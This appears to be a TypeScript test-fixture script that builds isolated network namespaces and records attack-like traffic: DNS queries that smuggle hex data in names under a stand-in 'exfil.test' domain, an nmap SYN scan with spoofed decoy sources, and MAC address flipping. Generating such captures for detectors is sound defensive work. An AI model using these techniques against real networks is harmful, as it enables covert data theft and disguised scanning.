/**
 * Runs in a network namespace of its own with a second one beside it: a resolver is asked for names that carry data, nmap begins
 * connections in the name of others, and the card behind an address changes to and fro, all on the wire between the two. The capture's path is the only argument.
 */
import { execFileSync, spawn, spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { Resolver } from 'node:dns/promises';
import { captureWire, said } from './captured-wire.ts';

const [capture = ''] = process.argv.slice(2);
const [HERE, THERE] = ['10.7.0.1', '10.7.0.2'];
const NAMES = 120;
const DECOYS = 60;

/** Answers every question with the same words: there is no such name. */
const NAME_SERVER = `
  const socket = require('node:dgram').createSocket('udp4');
  socket.on('message', (question, { port, address }) => {
    question[2] |= 0x80;
    question[3] = 0x83;
    socket.send(question, port, address);
  });
  socket.bind(53, '${THERE}', () => console.log('It answers.'));`;

const ip = (...words: readonly string[]): void => void execFileSync('ip', words, { stdio: 'ignore' });
const other = spawn('unshare', ['--net', 'sh', '-c', 'ip link set lo up; echo begun; exec sleep 120'], {
  stdio: ['ignore', 'pipe', 'inherit'],
});
await said(other.stdout, 'begun');
const there = ['-t', String(other.pid), '-n'];
ip('link', 'add', 'wire0', 'type', 'veth', 'peer', 'name', 'wire1', 'netns', String(other.pid));
ip('address', 'add', `${HERE}/24`, 'dev', 'wire0');
ip('link', 'set', 'lo', 'up');
for (const words of [
  ['address', 'add', `${THERE}/24`, 'dev', 'wire1'],
  ['link', 'set', 'wire1', 'up'],
]) {
  execFileSync('nsenter', [...there, 'ip', ...words]);
}
const wire = await captureWire(capture, { device: 'wire0', here: HERE, there: THERE });
const server = spawn('nsenter', [...there, process.execPath, '-e', NAME_SERVER], {
  stdio: ['ignore', 'pipe', 'inherit'],
});
await said(server.stdout, 'It answers.');

const resolver = new Resolver({ timeout: 20_000, tries: 1 });
resolver.setServers([THERE]);
// The same each time: beyond 64 different names are estimated, and of some hundred by chance they would be too few once in thousands.
const dataOf = (index: number): string => createHash('sha256').update(`${index}`).digest('hex').slice(0, 48);
const asked = Array.from({ length: NAMES }, (_, index) => `${dataOf(index)}.exfil.test`);
await Promise.allSettled(asked.map((name) => resolver.resolve4(name)));

const decoys = Array.from({ length: DECOYS }, (_, index) => `198.51.100.${index + 1}`).join(',');
spawnSync('/usr/bin/nmap', ['-n', '-Pn', '-sS', '--max-retries', '0', '-p', '80', '-D', decoys, THERE], {
  stdio: 'ignore',
  timeout: 60_000,
});

for (let turn = 0; turn < 5; turn += 1) {
  ip('link', 'set', 'dev', 'wire0', 'address', `02:00:00:00:00:0${1 + (turn % 2)}`);
  ip('neighbour', 'flush', 'dev', 'wire0');
  spawnSync('ping', ['-c', '1', '-W', '5', THERE], { stdio: 'ignore' });
}

await wire.close();
server.kill('SIGKILL');
other.kill('SIGKILL');
